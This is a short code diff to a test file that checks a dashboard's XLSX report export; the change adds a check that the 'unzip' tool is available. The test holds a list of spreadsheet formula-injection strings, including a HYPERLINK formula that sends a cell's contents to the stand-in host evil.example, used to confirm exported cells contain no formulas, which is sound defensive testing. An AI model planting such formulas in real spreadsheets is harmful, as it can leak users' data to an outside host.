@@ -6,7 +6,7 @@ import ExcelJS from 'exceljs';
 import { describe, expect, it } from 'vitest';
 import { writeXlsx, XLSX_HEADER_ROW } from '../../dashboard/reports/export/index.js';
 import type { ReportRow } from '../../dashboard/reports/report-table.js';
-import { BufferSink, HISTOGRAM, SAMPLE_ROWS, sampleTable } from './report-export-fixture.js';
+import { BufferSink, HISTOGRAM, requireCommand, SAMPLE_ROWS, sampleTable } from './report-export-fixture.js';
 
 const ATTACKS = ['=HYPERLINK("http://evil.example/?d="&A1,"click")', '+1', '-1+1', '@SUM(A1)', '\t=1+1', '\r=1+1'];
 
@@ -106,6 +106,7 @@ describe('XLSX export', () => {
       );
     }
     // And in the file itself: no <f> element in any sheet's XML.
+    requireCommand('unzip', 'unzip');
     const dir = mkdtempSync(path.join(tmpdir(), 'punchgate-xlsx-'));
     const file = path.join(dir, 'report.xlsx');
     writeFileSync(file, bytes);
